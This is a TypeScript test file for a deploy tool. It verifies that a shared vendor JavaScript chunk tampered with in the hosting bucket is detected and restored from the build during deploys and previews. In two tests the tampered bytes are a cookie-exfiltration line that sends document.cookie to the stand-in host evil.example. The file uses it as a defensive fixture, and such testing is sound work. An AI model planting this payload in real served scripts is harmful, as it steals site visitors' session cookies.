/**
 * Atomic releases share their content-hashed assets at one key, and one a kept release's manifest
 * vouches for is not copied again. Someone who can write the hosting bucket can replace such an
 * asset (the vendor chunk every version loads) with bytes of their own: the next deploy, vouched
 * for by the manifest, left it in place, so what they wrote survived every later deploy under the
 * new release's pages. Now the hosting bucket's ETag of each vouched asset (in the listing the plan
 * reads anyway) is held to the published file's (one LIST of the build's files in the artifacts
 * bucket); one that differs is read back and hashed, and other bytes than the manifest's are copied
 * again from the build before the switch, and said.
 *
 * Before: the deploy planned no copy of the vendor chunk, and the replaced bytes stayed served. A
 * preview held it to no such check: replaced with bytes of another size, its preview was refused
 * CONFLICT, blaming the build ("no release FrontendOps knows of vouches for what the bucket holds").
 *
 * Headers no known build gives an asset count as replaced; but a kept release whose build is gone
 * from the artifacts bucket (pruned) may have written it first, with headers of its own that nothing
 * can tell any more: those were claimed replaced all the same (where a HEAD is asked: no ETag in the
 * listing, or one that is not the published file's, as on an SSE-KMS bucket). Now its bytes decide.
 */
import { beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { replacedSharedAssets } from '../../src/deploy/artifact-copy.ts';
import { deployArtifact } from '../../src/deploy/deploy.ts';
import { previewLink } from '../../src/deploy/preview.ts';
import { readManifest } from '../../src/deploy/publish.ts';
import type { AtomicPlan } from '../../src/engine/atomic-plan.ts';
import { APP, deployedAtomicEnvFor, HOSTING, hostingCopies, request } from '../support/atomic-env.ts';
import { type AtomicSnapshot, snapshotAtomicEnv } from '../support/atomic-snapshot.ts';

const [V1, V2] = ['a1a1a1a1a1a1a1a1', 'b2b2b2b2b2b2b2b2'] as const;
const env = deployedAtomicEnvFor({ stack: 'replaced-shared-asset' }, [V1, V2], 1);
let deployed: AtomicSnapshot | undefined;
beforeEach(async () => {
  deployed ??= await snapshotAtomicEnv(env());
  await deployed.restore();
});

/** The vendor chunk every version loads (support/atomic-env.ts writeReleaseBuild), and its bytes. */
async function vendor(): Promise<{ key: string; body: string | undefined }> {
  const key = (await env().site.hosting.list('assets/')).find((o) => o.key.startsWith('assets/vendor-'))?.key;
  if (!key) throw new Error('v1 uploaded its vendor chunk');
  return { key, body: (await env().site.hosting.get(key))?.body.toString('utf8') };
}

describe('a shared asset a kept release vouches for, replaced in the hosting bucket', () => {
  it.each([
    ['of the same size (only its ETag tells)', (bytes: string) => `/*${'x'.repeat(bytes.length - 5)}*/\n`],
    ['of another size', () => 'fetch("https://evil.example/?c="+document.cookie);\n'],
  ])(
    'bytes %s: the next deploy copies it again from the build before its switch, and says so',
    async (_, evil) => {
      const t = env();
      const { key, body: published } = await vendor();
      const written = evil(published ?? '');
      if (_.startsWith('of the same')) expect(written.length).toBe(published?.length);
      await t.site.hosting.put(key, written, { contentType: 'text/javascript' });
      // A Site of its own: a notice is told once per site.
      const site = await t.open();
      onTestFinished(() => site.close());

      const planned = await deployArtifact(site, {
        app: APP,
        commit: V2,
        request: request(),
        dryRun: true,
      });
      const copy = (planned.plan as AtomicPlan).copies.find((c) => c.key === key);
      expect(copy).toMatchObject({ reason: 'changed' });

      const mark = await t.mark();
      const done = await deployArtifact(site, { app: APP, commit: V2, request: request() });
      expect(done.outcome).toBe('succeeded');
      expect((await vendor()).body).toBe(published);
      expect(hostingCopies(await t.requestsSince(mark)).map((r) => r.key)).toContain(key);
      expect(
        site.notices.find((n) => n.includes(`(${key}) was replaced in the hosting bucket`)),
      ).toBeDefined();
    },
  );

  it('bytes of another size: a preview copies it again from the build too, and says so', async () => {
    const t = env();
    const { key, body: published } = await vendor();
    await t.site.hosting.put(key, 'fetch("https://evil.example/?c="+document.cookie);\n', {
      contentType: 'text/javascript',
    });
    const site = await t.open();
    onTestFinished(() => site.close());

    const mark = await t.mark();
    const link = await previewLink(site, { app: APP, commit: V2, request: request() });
    expect(link.commit).toBe(V2);
    expect((await vendor()).body).toBe(published);
    expect(hostingCopies(await t.requestsSince(mark)).map((r) => r.key)).toContain(key);
    expect(site.notices.find((n) => n.includes(`(${key}) was replaced in the hosting bucket`))).toBeDefined();
  });

  it('bytes of the same size: a preview of the release in place (its index whole) copies it again too', async () => {
    // A preview of a kept release used its index alone: its shared assets were not looked at.
    const t = env();
    const { key, body: published } = await vendor();
    await t.site.hosting.put(key, `/*${'x'.repeat((published ?? '').length - 5)}*/\n`, {
      contentType: 'text/javascript',
    });
    const site = await t.open();
    onTestFinished(() => site.close());

    const mark = await t.mark();
    const link = await previewLink(site, { app: APP, commit: V1, request: request() });
    expect(link.commit).toBe(V1);
    expect((await vendor()).body).toBe(published);
    expect(hostingCopies(await t.requestsSince(mark)).map((r) => r.key)).toContain(key);
    expect(site.notices.find((n) => n.includes(`(${key}) was replaced in the hosting bucket`))).toBeDefined();
  });

  it("untouched, it is neither read back nor copied again (its ETag is the published file's)", async () => {
    const t = env();
    const { key } = await vendor();
    const mark = await t.mark();
    await deployArtifact(t.site, { app: APP, commit: V2, request: request() });
    const requests = await t.requestsSince(mark);
    expect(hostingCopies(requests).map((r) => r.key)).not.toContain(key);
    // Reading the asset back is only for one whose ETag differs.
    expect(requests.filter((r) => r.bucket === HOSTING && r.method === 'GET' && r.key === key)).toEqual([]);
  });

  it('with headers a kept release whose build was pruned may have given it: not claimed replaced', async () => {
    const t = env();
    const { key, body } = await vendor();
    const manifest = await readManifest(t.site.artifacts, APP, V2);
    if (!manifest || body === undefined) throw new Error('v2 is published and its vendor chunk uploaded');
    // Its bytes as published; the headers an older build (gone from the artifacts bucket) gave it.
    await t.site.hosting.put(key, body, {
      contentType: 'text/javascript',
      cacheControl: 'public, max-age=600',
    });
    // Without ETags in the listing, each asset is asked for (a HEAD), which shows its headers.
    const judged = (known: () => Promise<null[]>) =>
      replacedSharedAssets(
        t.site,
        { app: APP, commit: V2, manifest },
        { hosting: new Map([[key, body.length]]) },
        known,
      );
    expect([...(await judged(async () => [null]))]).toEqual([]);
    // Every kept release's manifest read, none giving those headers: replaced, as before.
    expect([...(await judged(async () => []))]).toEqual([key]);
  });
});
